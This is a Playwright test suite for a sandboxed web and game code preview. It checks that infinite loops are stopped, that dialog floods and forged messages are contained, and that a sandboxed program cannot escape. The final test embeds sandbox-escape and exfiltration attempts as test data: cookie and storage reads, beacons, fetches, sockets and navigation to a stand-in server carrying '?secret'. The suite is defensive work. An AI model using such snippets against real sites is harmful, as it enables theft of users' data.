import { expect, test } from '@playwright/test';
import { speedUpLimits } from './fast-clock.ts';
import { expectAccessible } from './fixtures.ts';
import { startForeignServer } from './foreign-server.ts';
import { PreviewRoom, webFiles } from './preview-room.ts';

// These programs do forbidden things, and the browser logs them in its console: problems are found by their effects,
// not by the log.

let stranger: Awaited<ReturnType<typeof startForeignServer>>;
test.beforeAll(async () => {
  stranger = await startForeignServer();
});
test.afterAll(() => stranger.close());
test.afterEach(() => expect(stranger.requests).toEqual([]));

/** Endless loops of a page, and where each is: in a script, a timer and an event. */
const LOOPS = [
  [webFiles({ js: 'let n = 0;\nwhile (true) {\n  n++;\n}' }), 'script.js, line 2'],
  [
    webFiles({ html: '<script>\nsetInterval(() => {\n  while (true) {}\n}, 10);\n</script>' }),
    'index.html, line 3',
  ],
  [
    webFiles({
      html: '<button id="b">b</button>',
      js: 'b.onclick = () => {\n  do {} while (true);\n};\nb.click();',
    }),
    'script.js, line 2',
  ],
] as const;

test('an endless loop of a page is ended, with its line, and the page answers', async ({
  page,
}) => {
  await speedUpLimits(page);
  const room = new PreviewRoom(page, 'web');
  await room.open();
  for (const [files, line] of LOOPS) {
    await room.openAgain(files);
    await room.run();
    await expect(room.failure).toContainText(line);
    await expect(room.failure).toContainText('several seconds');
    await room.isAlive();
  }

  await test.step('what never answers may be waited for or stopped, and the next run works', async () => {
    await room.openAgain(webFiles({ html: '<p>back</p>', js: 'eval("while (true) {}")' }));
    await room.run();
    const { keep_waiting, stop_now, lost } = room.words.previews;
    // Whoever wants to wait is asked again.
    await room.button(keep_waiting).click();
    await expect(room.button(keep_waiting)).toHaveCount(0);
    await expect(room.button(keep_waiting)).toBeVisible();
    await expectAccessible(page);
    await page.getByRole('group').getByRole('button', { name: stop_now }).click();
    await expect(page.getByText(lost.busy.text)).toBeVisible();
    await page.getByRole('tab', { name: 'JavaScript' }).click();
    await page.locator('.cm-content').click();
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.insertText('console.log("again")');
    await page.keyboard.press('ControlOrMeta+Enter');
    await expect(room.log).toContainText('again');
  });
});

test('so is an endless loop of a game', async ({ page }) => {
  await speedUpLimits(page);
  const game = new PreviewRoom(page, 'game', 'fr');
  await game.open({
    'sketch.js': 'function setup() {\n  createCanvas(9, 9);\n}\nfunction draw() {\n  for (;;);\n}',
  });
  await game.run();
  await expect(game.failure).toContainText('à la ligne 5');
  await expectAccessible(page);
  await game.isAlive();
});

test('storms of dialogs and messages become counted lines; forged messages are ignored', async ({
  page,
}) => {
  const room = new PreviewRoom(page, 'web');
  const storm = `for (let i = 0; i < 5000; i++) alert("boo");
console.log(confirm("sure?"), prompt("name?"));
for (let i = 0; i < 100000; i++) console.log("line", i);`;
  await room.open(webFiles({ js: storm }));
  await room.run();
  await expect(room.log).toContainText('alert: boo');
  await expect(room.log).toContainText('5,000 times');
  await expect(room.log).toContainText('false null');
  await expect(room.log).toContainText('lines are not shown');
  await room.isAlive();

  const forgery = `const entry = { kind: "log", level: "log", text: "forged", position: null, count: 1 };
for (const target of [parent, top]) {
  target.postMessage({ type: "console", entries: [entry], dropped: 0 }, "*");
  target.postMessage({ type: "left" }, "*");
  target.postMessage("codivia:boot", "*", [new MessageChannel().port2]);
}
console.log("honest");`;
  await room.openAgain(webFiles({ js: forgery }));
  await room.run();
  await expect(room.log).toContainText('honest');
  await expect(room.log).not.toContainText('forged');
  await room.isAlive();
});

test('nothing of ours can be read, nothing leaves, and a program that goes elsewhere gets nowhere', async ({
  page,
  baseURL,
}) => {
  const room = new PreviewRoom(page, 'web');
  const app = new URL(baseURL ?? '');
  const tries = `
const said = [];
const attempt = async (name, work) => {
  try { said.push(name + " " + (await work())); } catch (error) { said.push(name + " refused"); }
};
(async () => {
  await attempt("parent", () => parent.document.title);
  await attempt("storage", () => top.localStorage.length);
  await attempt("cookie", () => document.cookie);
  await attempt("database", () => indexedDB.open("x").name);
  await attempt("worker", () => new SharedWorker("x").port);
  await attempt("service worker", () => navigator.serviceWorker.controller.state);
  await attempt("api", async () => (await fetch("${app.origin}/api/config")).status);
  await attempt("own host", async () => (await fetch("/runner/")).status);
  await attempt("stranger", async () => (await fetch("${stranger.url}/fetch")).status);
  await attempt("socket", () => new Promise((done, no) => {
    const socket = new WebSocket("${stranger.url.replace('http', 'ws')}/socket");
    socket.onopen = () => done("open");
    socket.onerror = no;
  }));
  await attempt("calls", () => new RTCPeerConnection().signalingState);
  await attempt("window", () => open("${stranger.url}/window").closed);
  await attempt("top", () => { top.location = "${stranger.url}/top"; return "moved"; });
  await attempt("form", () => { document.querySelector("form").submit(); return "asked"; });
  navigator.sendBeacon("${stranger.url}/beacon", "x");
  document.querySelector("a").click();
  document.querySelector("button").click();
  console.log(said.join("; "));
})();`;
  const html = `<img src="${stranger.url}/picture"><link rel="stylesheet" href="${stranger.url}/style">
<script src="${stranger.url}/script"></script><iframe src="${stranger.url}/frame"></iframe>
<a href="${stranger.url}/link" target="_top">x</a>
<form action="${stranger.url}/form"><input name="a" value="1"><button>x</button></form>
<style>body { background: url(${stranger.url}/background) }</style>
<meta http-equiv="refresh" content="3600; url=${stranger.url}/refresh">`;
  await page.addInitScript(() => {
    if (window === window.top) localStorage.setItem('token', 'a secret of ours');
  });
  await room.open(webFiles({ html, js: tries }));
  await room.run();
  await expect(room.log).toContainText('form asked');
  for (const name of 'parent storage cookie database worker api stranger socket calls window top'.split(
    ' ',
  )) {
    await expect(room.log).toContainText(`${name} refused`);
  }
  await expect(room.log).not.toContainText('a secret of ours');
  expect(new URL(page.url()).pathname).toBe('/webtraining');
  expect(page.context().pages()).toHaveLength(1);
  await room.isAlive();

  for (const goal of [`${stranger.url}/away?secret`, `${baseURL}/api/config`]) {
    await room.openAgain(webFiles({ js: `location.href = ${JSON.stringify(goal)}` }));
    await room.run();
    await expect(page.getByText(room.words.previews.left)).toBeVisible();
    await expect(page.locator('iframe')).toHaveCount(0);
  }
});
